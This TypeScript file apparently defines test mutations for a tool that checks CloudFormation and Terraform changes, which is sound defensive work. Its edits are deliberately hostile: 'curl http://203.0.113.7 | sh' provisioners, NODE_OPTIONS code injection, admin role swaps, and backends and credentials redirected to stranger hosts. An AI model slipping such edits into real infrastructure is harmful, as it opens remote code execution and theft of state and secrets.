import { type Edit, type Kind, real, removed } from '../kind.js';
import { edit, resources, rows, valueAt } from '../places.js';

const fn = 'AWS::Lambda::Function';

export const shapes: readonly Kind[] = [
  real(
    'CloudFormation construct that hides a value',
    rows(
      ['@aws', 'Conditions/Never', { 'Fn::Equals': ['a', 'b'] }],
      ['@aws', 'Transform', 'AWS::Serverless-2016-10-31'],
      ['@aws', 'Transform', ['AWS::LanguageExtensions']],
      ['@aws', 'Mappings/More', { a: { b: 'c' } }],
      ['@aws', 'Hooks', { Hook: { Type: 'AWS::CodeDeploy::BlueGreen' } }],
      ['@aws', 'Parameters/Added', { Type: 'String', Default: 'x' }],
      ['@aws', 'Resources/Fn::ForEach::Added', ['X', ['a'], { 'R${X}': { Type: 'AWS::S3::Bucket' } }]],
      ['@aws', 'Resources/Nested', { Type: 'AWS::CloudFormation::Stack', Properties: { TemplateURL: 'https://stranger.s3.amazonaws.com/x.json' } }],
      ['@aws', 'Resources/Custom', { Type: 'Custom::Anything', Properties: { ServiceToken: 'arn:aws:lambda:eu-north-1:999988887777:function:x' } }],
      ['@aws', 'Resources/Macro', { Type: 'AWS::CloudFormation::CustomResource', Properties: { ServiceToken: 'arn:aws:sns:eu-north-1:999988887777:x' } }],
      ['@aws', 'Resources/Unknown', { Type: 'AWS::Quantum::Computer', Properties: {} }],
      ['@aws', 'Resources/Private', { Type: 'Stranger::Module::Thing::MODULE', Properties: {} }],
      ['*aws', '^/Condition', 'Never'],
      ['*aws', '^/CreationPolicy', { ResourceSignal: { Count: 1 } }],
    ),
    function* (stack) {
      if (stack.app !== 'aws') return;
      for (const { properties } of resources(stack)) {
        for (const key of Object.keys(valueAt(stack.document, properties) ?? {})) {
          const at = [...properties, key];
          yield* edit(stack, at, { 'Fn::If': ['Never', valueAt(stack.document, at), { Ref: 'AWS::NoValue' }] });
        }
      }
    },
  ),
  real('value that cannot be resolved', function* (stack) {
    if (stack.app !== 'aws') return;
    for (const { type, properties } of resources(stack)) {
      if (!/::(Bucket|SecurityGroup|Role|Guardrail|TaskDefinition|VPCEndpoint|LaunchTemplate|Budget|Alarm|Listener|KMS::Key|LogGroup)$/.test(type)) continue;
      for (const key of Object.keys(valueAt(stack.document, properties) ?? {})) {
        if (/Description|^Name$|Tags|Label/.test(key)) continue;
        yield* edit(stack, [...properties, key], { 'Fn::ImportValue': 'something' });
        yield* edit(stack, [...properties, key], { 'Fn::Transform': { Name: 'AWS::Include', Parameters: { Location: 's3://stranger/x' } } });
      }
    }
  }),
  real('parameter turned to another source', rows(['@aws', 'Rules/CheckBootstrapVersion', removed]), function* (stack) {
    if (stack.app !== 'aws') return;
    for (const name of Object.keys((stack.document['Parameters'] ?? {}) as object)) {
      if (name !== 'BootstrapVersion') yield* edit(stack, ['Parameters', name, 'Default'], '/stranger/value');
    }
  }),
  real(
    'function changed',
    rows(
      [fn, 'Code', { ZipFile: 'exports.handler = async () => {}' }],
      [fn, 'Code/S3Key', `${'5'.repeat(64)}.zip`],
      [fn, 'Code/S3Bucket', 'stranger-bucket'],
      [fn, 'Handler', 'other.handler'],
      [fn, 'Runtime', 'nodejs16.x'],
      [fn, 'Layers', ['arn:aws:lambda:eu-north-1:999988887777:layer:x:1']],
      [fn, 'Role', 'arn:aws:iam::111122223333:role/admin'],
      [fn, 'Environment/Variables/NODE_OPTIONS', '--require /tmp/x.js'],
      [fn, 'Environment', { Variables: { NODE_OPTIONS: '--require /tmp/x.js', HTTPS_PROXY: 'http://203.0.113.7' } }],
      [fn, 'Timeout', 1],
      [fn, 'VpcConfig', { SubnetIds: ['subnet-1'], SecurityGroupIds: ['sg-1'] }],
      [fn, 'ReservedConcurrentExecutions', 0],
      [fn, 'LoggingConfig', removed],
      ['AWS::StepFunctions::StateMachine', 'Definition/States/All/Branches/States/Start/Resource', 'arn:aws:states:::lambda:invoke'],
      [
        'AWS::StepFunctions::StateMachine',
        'Definition/States/All/Branches/States/Start/Parameters/EnvironmentVariablesOverride',
        [{ Name: 'REPOSITORY', Value: 'stranger/model' }],
      ],
      ['AWS::StepFunctions::StateMachine', 'RoleArn', 'arn:aws:iam::111122223333:role/admin'],
      ['AWS::CodeBuild::Project', 'Source/Location', 'https://github.com/stranger/x'],
      ['AWS::CodeBuild::Project', 'ServiceRole', 'arn:aws:iam::111122223333:role/admin'],
      ['AWS::CodeBuild::Project', 'Triggers', { Webhook: true }],
    ),
  ),
];

const terraformRoots: Kind['edits'] = rows(
  ...(['@google', '@azure'] as const).flatMap((cloud) => [
    [cloud, 'module/added', { source: 'git::https://stranger.example.org/x.git' }] as const,
    [cloud, 'data/terraform_remote_state/added', { backend: 'http', config: { address: 'https://stranger.example.org' } }] as const,
    [cloud, 'data/external/added', { program: ['sh', '-c', 'curl http://203.0.113.7'] }] as const,
    [cloud, 'data/http/added', { url: 'https://stranger.example.org' }] as const,
    [cloud, 'data/aws_caller_identity/added', {}] as const,
    [cloud, 'variable/added', { default: 'x' }] as const,
    [cloud, 'locals', { x: 'y' }] as const,
    [cloud, 'moved', [{ from: 'a.b', to: 'a.c' }]] as const,
    [cloud, 'removed', [{ from: 'google_kms_crypto_key.x', lifecycle: { destroy: true } }]] as const,
    [cloud, 'import', [{ to: 'a.b', id: 'x' }]] as const,
    [cloud, 'check/added', { assert: { condition: true, error_message: 'x' } }] as const,
    [cloud, 'resource/null_resource/added', { provisioner: [{ 'local-exec': { command: 'curl http://203.0.113.7 | sh' } }] }] as const,
    [cloud, 'resource/terraform_data/added', { provisioner: [{ 'local-exec': { command: 'curl http://203.0.113.7 | sh' } }] }] as const,
    [cloud, 'resource/random_password/added', { length: 3 }] as const,
    [cloud, 'resource/google_quantum_computer/added', {}] as const,
    [cloud, 'output/added', { value: '${google_secret_manager_secret.x.id}' }] as const,
    [cloud, 'ephemeral/x/added', {}] as const,
  ]),
);

export const terraform: readonly Kind[] = [
  real(
    'Terraform construct that hides a value',
    terraformRoots,
    rows(
      ['*terraform', 'count', 0],
      ['*terraform', 'for_each', { a: 'b' }],
      ['*terraform', 'provisioner', [{ 'local-exec': { command: 'curl http://203.0.113.7 | sh' } }]],
      ['*terraform', 'connection', { host: '203.0.113.7' }],
      ['*terraform', 'dynamic', { allow: { for_each: ['a'], content: { protocol: 'all' } } }],
      ['*terraform', 'provider', 'google.other'],
      ['*terraform', 'lifecycle/ignore_changes', 'all'],
      ['terraform_data', 'provisioner/local-exec/command', 'curl http://203.0.113.7 | sh'],
      ['terraform_data', 'input', 'x'],
    ),
  ),
  real('value that Terraform decides', function* (stack) {
    if (stack.app === 'aws') return;
    for (const { type, properties } of resources(stack)) {
      if (/^terraform_data$/.test(type)) continue;
      for (const [key, before] of Object.entries(valueAt(stack.document, properties) ?? {})) {
        if (/^(\/\/|depends_on|lifecycle|description|display_name|title)$/.test(key) || typeof before === 'object') continue;
        yield* edit(stack, [...properties, key], '${var.chosen}');
        if (typeof before === 'string' && !before.includes('${')) yield* edit(stack, [...properties, key], `\${true ? "${before}" : "x"}`);
      }
    }
  }),
  real('provider or backend changed', function* (stack) {
    if (stack.app === 'aws') return;
    const names = Object.keys((stack.document['provider'] ?? {}) as object);
    for (const name of names) {
      for (const [key, value] of [
        ['alias', 'other'],
        ['impersonate_service_account', 'x@stranger.iam.gserviceaccount.com'],
        ['credentials', '{"type":"service_account"}'],
        ['storage_custom_endpoint', 'https://stranger.example.org'],
        ['access_token', 'ya29.secret'],
        ['client_secret', 'secret'],
        ['metadata_host', 'stranger.example.org'],
        ['project', 'stranger-project'],
        ['subscription_id', '99999999-0000-0000-0000-000000000000'],
        ['tenant_id', '99999999-0000-0000-0000-000000000000'],
        ['region', 'asia-east1'],
        ['use_cli', false],
        ['skip_provider_registration', true],
      ] as const) {
        yield* edit(stack, ['provider', name, 0, key], value);
      }
      yield {
        at: ['provider', name],
        to: [...((stack.document['provider'] as Record<string, unknown[]>)[name] ?? []), { alias: 'other', project: 'stranger' }],
      };
      yield* edit(stack, ['terraform', 'required_providers', name, 'version'], '>= 1.0');
      yield* edit(stack, ['terraform', 'required_providers', name, 'source'], 'stranger/google');
      yield* edit(stack, ['terraform', 'required_providers', 'more'], { source: 'stranger/more', version: '1.0.0' });
    }
    yield { at: ['terraform', 'cloud'], to: { organization: 'stranger', workspaces: { name: 'x' } } };
    yield { at: ['terraform', 'backend'], to: { local: {} } };
    yield { at: ['terraform', 'backend'], to: { http: { address: 'https://stranger.example.org' } } };
    yield { at: ['terraform', 'backend'], to: removed };
    yield { at: ['terraform', 'experiments'], to: ['module_variable_optional_attrs'] };
    for (const backend of Object.keys(((stack.document['terraform'] as Record<string, unknown>)['backend'] ?? {}) as object)) {
      for (const [key, value] of [
        ['bucket', 'stranger-state'],
        ['kms_encryption_key', removed],
        ['prefix', 'other'],
        ['storage_account_name', 'stranger'],
        ['container_name', 'other'],
        ['key', 'other'],
        ['use_azuread_auth', false],
        ['access_key', 'secret'],
        ['impersonate_service_account', 'x@stranger.iam.gserviceaccount.com'],
      ] as const) {
        if (value === removed || /^(bucket|prefix|storage_account_name|container_name|key)$/.test(key))
          yield* present(stack, ['terraform', 'backend', backend, key], value);
        else yield* edit(stack, ['terraform', 'backend', backend, key], value);
      }
    }
  }),
];

function* present(stack: Parameters<Kind['edits']>[0], at: readonly string[], to: unknown): Iterable<Edit> {
  if (valueAt(stack.document, at) !== undefined) yield* edit(stack, at, to);
}
